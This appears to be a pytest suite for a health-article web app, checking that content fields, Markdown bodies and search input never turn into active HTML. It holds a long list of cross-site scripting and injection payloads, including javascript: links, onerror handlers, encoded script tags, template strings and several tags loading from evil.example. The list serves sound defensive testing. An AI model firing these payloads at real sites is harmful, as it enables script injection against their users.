"""Nothing that stands in a content file, or that a reader types, becomes active markup."""

import json
import re
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from xml.etree import ElementTree

import httpx
import pytest

from tests import making
from tests.asking import dangers, nodes, parsed, structured
from tests.conftest import NOON, serving
from widgets.app import create_app
from widgets.settings import Settings

ATTACKS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--/health-widgets--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=javascript:alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,x'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=q><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='https://x.example/?<h2><img src=x onerror=alert(1)></h2>'>x</a>",
    "<ol start='<h3><img src=x onerror=alert(1)></h3>'><li>x</li></ol>",
    "<a href='https://x.example/?{emergency}'>x</a>",
    "<a href='article:\" onmouseover=\"alert(1)'>x</a>",
    "<h2 id=x onclick=alert(1)>x</h2>",
    "<p style='position:fixed' class=hw id=main hx-get=https://evil.example hx-on:click=alert(1)>x</p>",
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<health-article-card article=x></health-article-card>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](x onerror=alert(1))",
    "<javascript:alert(1)>",
    "[x](article:\"><script>alert(1)</script>)",
    "## <img src=x onerror=alert(1)> x",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><img src=x onerror=alert(1)>',
    "`><img src=x onerror=alert(1)>",
    '","@type":"Evil","x":"',
    "\\u003c/script\\u003e\\u003cscript\\u003ealert(1)",
    "{{ 7 * 7 }}{% import os %}${7*7}#{7*7}",
    "{0.__class__}{number}{emergency-number",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u2028<script>alert(1)</script>\u2029",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<\u0073cript>alert(1)</\u0073cript>",
    "\u202e<img src=x onerror=alert(1)>",
]  # fmt: skip
HARMLESS = "Plain words"

FIELDS = ("title", "summary", "also", "author", "source", "emergency", "notice", "reviewer", "licence", "topic", "site", "campaign")
PAGES = ("/articles/sample", "/articles/gone", "/articles/checked", "/topics/hearts", "/", "/search", "/topics/hearts?lang=es",
"/articles/sample?lang=es",
         "/partials/article-card?article=sample", "/partials/article-card?article=sample&open", "/partials/article-card?article=gone",
         "/partials/article-card?article=checked&open&lang=es", "/partials/topic-browser", "/partials/topic-browser?topic=hearts",
         "/partials/topic-browser?topic=hearts&article=sample&lang=es", "/partials/symptom-checker", "/partials/appointment-cta",
         "/partials/appointment-cta?campaign=month", "/frame/article-card?article=sample", "/include/topic-browser?topic=hearts")  # fmt: skip


def hostile(root: Path, words: str, body: str = "Some text.") -> Path:
    """A content folder with `words` in every field that holds text, and `body` as every article's."""
    say = json.dumps(words, ensure_ascii=True).replace("\\u007f", "")  # a JSON string is a TOML one
    front = (
        f"title = {say}\nsummary = {say}\nalso-called = [{say}]\nauthor = {say}\nwritten = 2026-01-10\nemergency = {say}\n"
        f'[[sources]]\npublisher = {say}\ntitle = {say}\nurl = "https://www.nhlbi.nih.gov/health"\n'
    )
    review = f'[review]\nby = {say}\nreviewed = 2026-01-31\nnext-review = 2026-02-28\ntext-hash = "{{hash}}"\n'
    withdrawn = f'[withdrawn]\nnotice = {say}\nreplacement = "sample"\n'
    shared = f'topics = ["hearts"]\nlicence = {say}\nrelated = ["checked", "gone"]\n'
    for slug, more in (("sample", ""), ("gone", withdrawn), ("checked", review)):
        making.article(root, slug, shared, en=f"+++\n{front}{more}+++\n{body}\n")
    table = f"{{title = {say}, summary = {say}, also-called = [{say}]}}"
    making.write(root / "topics" / "hearts.toml", f"words.en = {table}\n")
    words_table = f"{{heading = {say}, text = {say}, button = {say}}}"
    making.write(root / "sites" / "default.toml", f'languages = ["en", "es"]\nname = {{en = {say}}}\ndisclaimer = {{en = {say}}}\n[appointment]\n'
                 f'address = "https://clinic.example/book"\nphone = "555-010-0100"\nhours.en = {say}\nwords.en = {words_table}\n'
                 f'[symptom-checker]\nwords.en = {words_table}\n')  # fmt: skip
    making.write(root / "campaigns" / "month.toml", f"words.en = {words_table}\n")
    return root


def shape(html: str) -> Counter[tuple[str, ...]]:
    """How often each element stands there, with the names of its attributes; but for <strong>, which {emergency} brings."""
    return Counter((node.tag, *sorted(node.attributes)) for node in nodes(html) if (node.tag, *node.attributes) != ("strong",))


def answers(root: Path) -> dict[str, str]:
    """What the server says over this content, by address."""
    app = create_app(Settings(content=root, watch=False), clock=lambda: NOON)
    assert app.editions.current.library.articles.keys() == {"sample", "gone", "checked"}, app.editions.current.faults
    with serving(app) as base, httpx.Client() as client:
        found = {}
        for path in PAGES:
            answer = client.get(base + path)
            assert answer.status_code == 200 or path.startswith(("/frame", "/include")), (path, answer.text)
            found[path] = answer.text.replace(base, "http://library.example")
        found["sitemap"] = client.get(base + "/sitemap.xml").text.replace(base, "http://library.example")
    app.close()
    return found


@pytest.fixture(scope="module")
def plain(tmp_path_factory: pytest.TempPathFactory) -> dict[str, str]:
    """The same pages over harmless words."""
    return answers(hostile(tmp_path_factory.mktemp("plain"), HARMLESS))


def test_attacks_are_many() -> None:
    """At least 40 kinds of injection are tried."""
    assert len(set(ATTACKS)) >= 40


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_field_becomes_markup(tmp_path: Path, plain: dict[str, str], attack: str) -> None:
    """With an attack in every field, each page has the elements and attributes that harmless words give it; JSON-LD holds it as text."""
    found = answers(hostile(tmp_path, attack))
    for path, html in found.items():
        if path == "sitemap":
            assert [e.tag for e in ElementTree.fromstring(html).iter()] == [e.tag for e in ElementTree.fromstring(plain[path]).iter()]
            continue
        if path.startswith("/include"):
            continue  # its fallback and shadow root are judged by its own parts
        assert shape(html) == shape(plain[path]), path
        assert not dangers(html) or dangers(html) == dangers(plain[path]), path
        for data, same in zip(structured(html), structured(plain[path]), strict=True):
            assert data.keys() == same.keys()
            assert data["@type"] == same["@type"]
    (data,) = structured(found["/articles/sample"])
    assert data["name"] == data["author"]["name"] == attack
    title = parsed(found["/articles/sample"]).css_first("title")
    assert title is not None
    assert _spaced(attack) in _spaced(title.text())


def _spaced(text: str) -> str:
    """Text with its white space folded, as browsers show it."""
    return " ".join(text.split())


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_markdown_becomes_active(tmp_path: Path, attack: str) -> None:
    """An attack in an article's Markdown, alone, inline, in a list, a table, a heading or a link, leaves nothing that runs."""
    body = f"Text.\n\n{attack}\n\nIn {attack} line.\n\n- {attack}\n\n## {attack}\n\n| a |\n|---|\n| {attack} |\n\n> {attack}"
    body += f"\n\n[{attack}](article:sample)\n\nEnd."
    for path, html in answers(hostile(tmp_path, HARMLESS, body)).items():
        if path != "sitemap" and not path.startswith(("/include", "/frame")):
            assert not dangers(html), path
            for node in nodes(html):
                assert not {"hx-on", "style", "srcdoc"} & node.attributes.keys()
                assert "evil.example" not in (node.attributes.get("hx-get") or "")


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_search_becomes_markup(content: Path, serve: Callable[..., str], attack: str) -> None:
    """What a reader types stands in the page as text only, and in no JSON-LD."""
    app = create_app(Settings(content=content, watch=False), clock=lambda: NOON)
    base = serve(app)
    for path in ("/search", "/partials/topic-browser"):
        html = httpx.post(base + path, data={"q": attack}).text.replace('" data-urgent>', '">')  # "emergency" is a sign of danger
        assert shape(html) == shape(httpx.post(base + path, data={"q": "zebra"}).text)
        assert "alert(1)" not in json.dumps(structured(html))
    app.close()


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "vbscript:x",
        "//evil.example",
        "/x",
        "ftp://x.example/",
        "https://",
        "https://a b",
        " https://x.example",
        "https://x.example/\\n",
        "",
    ],
)
def test_an_address_of_another_kind_is_a_fault(content: Path, url: str) -> None:
    """A source whose address is not http or https leaves its article out, and the fault names the line."""
    making.article(content, "bad", making.ARTICLE, en=making.text().replace("https://www.nhlbi.nih.gov/health", url))
    app = create_app(Settings(content=content, watch=False), clock=lambda: NOON)
    assert "bad" not in app.editions.current.library.articles
    assert any(fault.path == "articles/bad/en.md" and fault.line > 1 for fault in app.editions.current.faults)
    app.close()


def test_the_checks_find_what_runs() -> None:
    """Each kind of danger is seen by the check itself."""
    for html in (
        "<script>x</script>",
        "<p onclick=x>",
        "<a href=javascript:x>",
        "<a href='java&#9;script:x'>",
        "<iframe></iframe>",
        "<p style=x>",
        "<form action=/x>",
    ):
        assert dangers(html), html
    assert not dangers('<a href="https://x.example">x</a><script type="application/ld+json">{}</script>')
    assert re.search("script", "<script>")
